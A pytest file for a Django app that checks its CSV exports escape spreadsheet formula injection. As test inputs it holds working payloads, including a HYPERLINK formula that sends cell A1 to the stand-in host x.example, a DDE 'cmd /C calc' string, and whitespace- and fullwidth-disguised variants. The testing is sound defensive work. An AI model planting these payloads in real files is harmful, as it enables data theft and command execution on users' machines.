"""CSV cells that a spreadsheet would run as formulas are neutralised, in every export:
item names, SMS and upstream messages come from outside."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import ApiCall
from leases import services
from leases.models import Item, Lease

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
CONTROL = ["\tleading tab", "\rleading CR"]
# Spreadsheets skip leading blanks before a formula, and some (WPS, Excel with an IME) read
# the fullwidth signs as the ASCII ones.
HIDDEN = [
    " =1+1",
    "  +1+cmd|' /C calc'!A0",
    "\n-2+3",
    "\u3000@SUM(A1)",
    '\xa0=HYPERLINK("http://x.example")',
    '＝HYPERLINK("http://x.example")',
    "＋1",
    "－2+3",
    "＠SUM(A1)",
    " ＝1+1",
]


def _rows(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _dangerous(cell: str) -> bool:
    starts = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return starts or cell.lstrip()[:1] in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("value", EVIL + CONTROL + HIDDEN)
def test_the_cell_helper_quotes_formula_starts(value):
    from zhima_site.paging import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell("plain 验证码") == "plain 验证码" and safe_cell(-5) == -5
    assert safe_cell(" plain") == " plain" and safe_cell("a=b") == "a=b"


def test_history_csv_is_neutralised(client, personas, items, sim):
    services.lease_numbers(personas["member"], items["1001"], key="e" * 32)
    Item.objects.filter(pk=items["1001"].pk).update(name=EVIL[0])
    Lease.objects.update(end_reason=EVIL[1], code=EVIL[3])
    client.force_login(personas["member"])
    rows = _rows(client.get(reverse("leases-history-csv")))
    header, data = rows[0], rows[1:]
    assert data, "the export has the lease"
    row = dict(zip(header, data[0], strict=True))
    assert row["item"] == "'" + EVIL[0] and row["reason"] == "'" + EVIL[1]
    assert row["code"] == "'" + EVIL[3]
    assert not any(_dangerous(c) for r in data for c in r)


def test_audit_csv_is_neutralised(client, personas, account):
    for i, msg in enumerate(EVIL + CONTROL + HIDDEN):
        ApiCall.objects.create(
            account=account,
            actor="-member" if i == 0 else "member",
            endpoint="get_sms",
            outcome="ok",
            msg=msg,
            raw_body=msg,
            phone="+8613800000000",
        )
    client.force_login(personas["member"])
    rows = _rows(client.get(reverse("accounts-audit-csv")))
    header, data = rows[0], rows[1:]
    assert len(data) == len(EVIL + CONTROL + HIDDEN)
    msgs = {dict(zip(header, r, strict=True))["msg"] for r in data}
    assert msgs == {"'" + m for m in EVIL + CONTROL + HIDDEN}
    assert not any(_dangerous(c) for r in data for c in r)
